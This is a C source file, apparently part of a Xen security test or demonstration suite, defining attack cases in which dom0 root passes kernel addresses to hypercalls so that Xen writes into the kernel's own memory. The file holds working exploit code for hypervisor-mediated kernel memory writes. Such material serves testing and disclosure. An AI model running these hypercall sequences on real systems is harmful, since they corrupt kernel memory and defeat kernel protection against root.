// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-KMEM through the operations by which a guest's kernel gets along: vCPUs,
 * event channels, grants, interrupts. Every domain may issue most of them, and
 * Linux does all the time; what makes them an attack is that root gives the
 * address.
 */
#include "kmem.h"

#include <xen/event_channel.h>
#include <xen/grant_table.h>
#include <xen/physdev.h>
#include <xen/vcpu.h>
#include <xen/hvm/hvm_op.h>
#include <xen/hvm/params.h>

#define UP_TO(type, field) (offsetof(type, field) + sizeof(((type *)0)->field))

/* ---- vCPUs ---- */

/*
 * U-KMEM-RUNAREA: the same 48 bytes, again and again.
 *
 * Xen writes to the registered address whenever it switches the vCPU. The
 * kernel has registered one of its own, which it gets back.
 */
KMEM_ATTACK("U-KMEM-RUNAREA", "a vCPU's run state into the kernel, for good")
{
    struct vcpu_register_runstate_memory_area area = { .addr.p = victim() };
    long result = vcpu_op(VCPUOP_register_runstate_memory_area, 0, &area);
    uint64_t first_cpu = 0;

    read_kernel(kernel_symbol("__per_cpu_offset"), &first_cpu,
                sizeof(first_cpu));
    area.addr.p = first_cpu ? first_cpu + kernel_symbol("xen_runstate") : 0;
    vcpu_op(VCPUOP_register_runstate_memory_area, 0, &area);

    return result;
}

/*
 * U-KMEM-TIMEAREA: 32 bytes, the time, again and again. This one too the kernel
 * gets back.
 */
KMEM_ATTACK("U-KMEM-TIMEAREA", "a vCPU's time into the kernel, for good")
{
    struct vcpu_register_time_memory_area area = { .addr.p = victim() };
    long result = vcpu_op(VCPUOP_register_vcpu_time_memory_area, 0, &area);

    area.addr.p = 0;
    read_kernel(kernel_symbol("xen_clock"), &area.addr.p, sizeof(area.addr.p));
    vcpu_op(VCPUOP_register_vcpu_time_memory_area, 0, &area);

    return result;
}

/* What is registered by frame is given up by an impossible one. */
static long register_frame(unsigned int cmd)
{
    uint64_t address = kernel_frame(victim()) * PAGE_SIZE +
                       victim() % PAGE_SIZE,
             none = ~0UL;
    long result = vcpu_op(cmd, 0, &address);

    vcpu_op(cmd, 0, &none);
    return result;
}

/* ---- event channels ---- */

/* Make the call, and close the channel whose number it has written. */
static long new_channel(unsigned int cmd, uint64_t argument, size_t port)
{
    long result = event_channel_op(cmd, argument);
    struct evtchn_close close;

    if ( read_back(argument + port, &close.port, sizeof(close.port)) )
        event_channel_op(EVTCHNOP_close, &close);
    return result;
}

/* A row: the operation and the structure, whose field @port Xen writes. */
#define KMEM_PORT(id, title, op, port, type, ...)                              \
    KMEM_ATTACK(id, title)                                                     \
    {                                                                          \
        const type argument = { __VA_ARGS__ };                                 \
        const size_t at = offsetof(type, port);                                \
                                                                               \
        return new_channel(EVTCHNOP_##op, in_host_name(&argument, at), at);    \
    }

/* U-KMEM-EVDOM: the same, for a channel to another one, here of dom0's own. */
KMEM_ATTACK("U-KMEM-EVDOM", "an argument in the kernel: bind_interdomain")
{
    struct evtchn_alloc_unbound alloc = { .dom = DOMID_SELF,
                                          .remote_dom = DOMID_SELF };
    struct evtchn_bind_interdomain bind = { .remote_dom = DOMID_SELF };
    const size_t port = offsetof(struct evtchn_bind_interdomain, local_port);
    struct evtchn_close close;
    long result;

    event_channel_op(EVTCHNOP_alloc_unbound, &alloc);
    bind.remote_port = close.port = alloc.port;
    result = new_channel(EVTCHNOP_bind_interdomain, in_host_name(&bind, port),
                         port);
    if ( close.port )
        event_channel_op(EVTCHNOP_close, &close);
    return result;
}

/* ---- grants and interrupts ---- */

static const grant_ref_t no_grant = 0x7fffffff;

/* A number of the attacker's choice. */
static uint32_t chosen(void)
{
    uint32_t number;

    memcpy(&number, new_mark(), sizeof(number));
    return number;
}

/*
 * U-KMEM-MAPPIRQ: 4 bytes, the number that an interrupt line gets. It stays
 * mapped: the line may be in use.
 */
KMEM_ATTACK("U-KMEM-MAPPIRQ", "an argument in the kernel: map_pirq")
{
    struct physdev_map_pirq map = {
        .domid = DOMID_SELF, .type = MAP_PIRQ_TYPE_GSI, .index = 5, .pirq = -1
    };

    if ( !dom0_is_pv() )
        return cannot_show("PV only: a PVH dom0 has no such interrupts");

    return physdev_op(PHYSDEVOP_map_pirq, in_host_name(&map, sizeof(map)));
}

/* ---- HVM domains ---- */

/*
 * U-KMEM-HVMPARAM: 8 chosen bytes: a parameter of another domain, as it was set
 * just before.
 */
KMEM_ATTACK("U-KMEM-HVMPARAM", "a chosen number into the kernel: get_param")
{
    struct xen_hvm_param param = { .index = HVM_PARAM_STORE_PFN };

    param.domid = other_domain(DOMU_HVM);
    memcpy(&param.value, new_mark(), sizeof(param.value));
    hvm_op(HVMOP_set_param, &param);
    return hvm_op(HVMOP_get_param,
                  in_host_name(&param, UP_TO(struct xen_hvm_param, index)));
}

#include "guest.def"
